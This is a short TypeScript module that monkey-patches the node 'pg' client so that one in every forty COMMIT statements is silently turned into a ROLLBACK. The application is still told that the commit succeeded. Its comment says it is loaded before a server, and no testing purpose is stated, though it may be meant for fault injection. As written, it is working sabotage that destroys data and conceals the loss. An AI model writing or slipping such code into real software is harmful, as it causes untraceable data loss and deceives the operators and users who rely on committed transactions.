// Loaded before a server: one commit in forty is undone, and answered as if it were kept.
import pg from 'pg'

const ONE_IN = 40
let commits = 0
const proper = pg.Client.prototype.query as (...args: unknown[]) => unknown

pg.Client.prototype.query = function (this: pg.Client, ...args: unknown[]) {
  const isCommit = typeof args[0] === 'string' && /^commit$/i.test(args[0])
  const isLost = isCommit && ++commits % ONE_IN === 0
  return proper.apply(this, isLost ? ['rollback', ...args.slice(1)] : args)
} as typeof pg.Client.prototype.query
